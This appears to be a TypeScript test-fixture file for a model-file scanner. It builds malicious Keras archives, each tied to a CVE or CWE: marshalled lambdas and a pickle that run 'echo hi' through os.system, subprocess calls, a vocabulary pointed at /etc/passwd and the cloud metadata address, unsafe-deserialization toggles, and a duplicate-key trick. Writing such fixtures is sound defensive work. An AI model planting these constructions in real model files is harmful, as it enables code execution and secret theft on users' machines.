import { utf8, bytes } from '../bytes';
import { zipOf } from '../zip-builder';
import { proto, PAYLOAD } from '../pickle-assembler';
import type { FileCase } from './file-case';
import { fileCases } from './file-case';

const json = (value: unknown): Uint8Array => utf8(JSON.stringify(value));
/** Compiled `lambda x: __import__('os').system('echo hi')`, as Keras stores it: marshal of CPython 3.11. */
const MARSHAL =
  '4wEAAAAAAAAAAAAAAAIAAAADAAAA8x4AAACXAHQBAAAAAAAAAABkAaYBAACrAQAAAAAAAABTACkCTtoCb3MpAdoKX19pbXBvcnRfXykB2gF4cwEAAAAgeggIPGxhbWJkYT5yBQAAAAEAAABzCAAAAIAApSHUISeAAPMAAAAA';

export const layer = (
  module: string,
  name: string,
  config: unknown = {},
  registered: string | null = null
): unknown => ({
  module,
  class_name: name,
  config,
  registered_name: registered
});
const model = (...layers: readonly unknown[]): unknown => layer('keras', 'Sequential', { name: 's', layers });
/** A `.keras` archive with this configuration. */
export const kerasOf = (config: unknown): Uint8Array =>
  zipOf([
    { name: 'metadata.json', data: json({ keras_version: '3.8.0', date_saved: '2025-01-01@00:00:00' }) },
    { name: 'config.json', data: json(config) }
  ]);
const of = (...layers: readonly unknown[]): Uint8Array => kerasOf(model(...layers));
const lambda = layer('keras.layers', 'Lambda', {
  name: 'l',
  function: { class_name: '__lambda__', config: { code: MARSHAL, defaults: null, closure: null } }
});
const called = (module: string, name: string): unknown => layer(module, 'function', name, name);
const using = (fn: unknown, args: unknown = {}): unknown =>
  layer('keras.layers', 'Lambda', { name: 'l', function: fn, arguments: args });

/** Tricks of Keras' configurations. */
export const KERAS_FILES: readonly FileCase[] = fileCases(
  'Keras',
  ['a Lambda layer', 'lambda.keras', of(lambda), 'CVE-2024-3660'],
  [
    'a Lambda layer of Keras 2',
    'lambda2.keras',
    of({
      class_name: 'Lambda',
      config: { name: 'l', function: [MARSHAL, null, null], function_type: 'lambda', module: '__main__' }
    }),
    'CVE-2024-3660'
  ],
  ['a Lambda in a model in a model', 'nested.keras', of(model(model(lambda))), 'CVE-2024-3660'],
  [
    'a Lambda in TimeDistributed',
    'timed.keras',
    of(layer('keras.layers', 'TimeDistributed', { name: 't', layer: lambda })),
    'CVE-2024-3660'
  ],
  [
    'a Lambda in Bidirectional',
    'both.keras',
    of(layer('keras.layers', 'Bidirectional', { name: 'b', layer: lambda })),
    'CVE-2024-3660'
  ],
  ['a Lambda at the root', 'root.keras', kerasOf(lambda), 'CVE-2024-3660'],
  [
    'a lambda as the loss',
    'loss.keras',
    kerasOf({
      ...(model() as object),
      compile_config: { optimizer: 'adam', loss: { class_name: '__lambda__', config: { code: MARSHAL } } }
    }),
    'CVE-2024-3660'
  ],
  ['os.system as a function', 'system.keras', of(using(called('os', 'system'))), 'CVE-2025-1550'],
  ['a foreign class', 'class.keras', of(layer('subprocess', 'Popen', { args: ['echo', 'hi'] })), 'CVE-2025-1550'],
  [
    'a callable with arguments',
    'run.keras',
    of(using(called('subprocess', 'run'), { args: ['echo', 'hi'] })),
    'CVE-2025-1550'
  ],
  [
    'builtins by registered_name',
    'registered.keras',
    of(layer('keras.layers', 'Dense', {}, 'builtins>eval'), using(called('builtins', 'eval'))),
    'CVE-2025-1550'
  ],
  [
    'get_file',
    'getfile.keras',
    of(using(called('keras.utils', 'get_file'), { origin: 'https://example.org/x', extract: true })),
    'CVE-2025-8747'
  ],
  [
    'load_model',
    'loadmodel.keras',
    of(using(called('keras.models', 'load_model'), { safe_mode: false })),
    'CVE-2025-8747'
  ],
  [
    'safety is switched off',
    'unsafe.keras',
    of(using(called('keras.config', 'enable_unsafe_deserialization'))),
    'CVE-2025-9906'
  ],
  [
    'a module of PyTorch',
    'torch.keras',
    of(
      layer('keras.layers', 'TorchModuleWrapper', { name: 't', module: 'gAJjcG9zaXgKc3lzdGVtClgHAAAAZWNobyBoaYVSLg==' })
    ),
    'CVE-2025-49655'
  ],
  [
    'a SavedModel from elsewhere',
    'tfsm.keras',
    of(layer('keras.layers', 'TFSMLayer', { name: 't', filepath: '/tmp/evil' })),
    'CVE-2026-1462'
  ],
  [
    'a vocabulary that is a file',
    'vocabulary.keras',
    of(layer('keras.layers', 'StringLookup', { name: 's', vocabulary: '/etc/passwd' })),
    'CVE-2025-12058'
  ],
  [
    'a vocabulary that is an address',
    'fetched.keras',
    of(layer('keras.layers', 'StringLookup', { name: 's', vocabulary: 'http://169.254.169.254/x' })),
    'CVE-2025-12058'
  ],
  [
    'tf.io.write_file',
    'write.keras',
    of(layer('keras.src.ops.operation', 'TFOpLambda', { name: 't', function: 'io.write_file' }), {
      class_name: 'TFOpLambda',
      config: { name: 't', function: 'io.write_file' }
    }),
    'Hundreds of Keras files on the Hub'
  ],
  [
    'a key that stands twice',
    'twice.keras',
    zipOf([
      {
        name: 'config.json',
        data: bytes(
          '{"module":"keras","class_name":"Sequential","config":{"layers":[{"module":"keras.layers","class_name":"Dense","class_name":"Lambda","config":{"function":{"class_name":"__lambda__","config":{"code":"',
          MARSHAL,
          '"}}}}]}}'
        )
      }
    ]),
    'CWE-436'
  ],
  [
    'a pickle among the assets',
    'assets.keras',
    zipOf([
      { name: 'config.json', data: json(model()) },
      { name: 'assets/vocabulary.pkl', data: proto(2, PAYLOAD) }
    ]),
    'CWE-502'
  ]
);
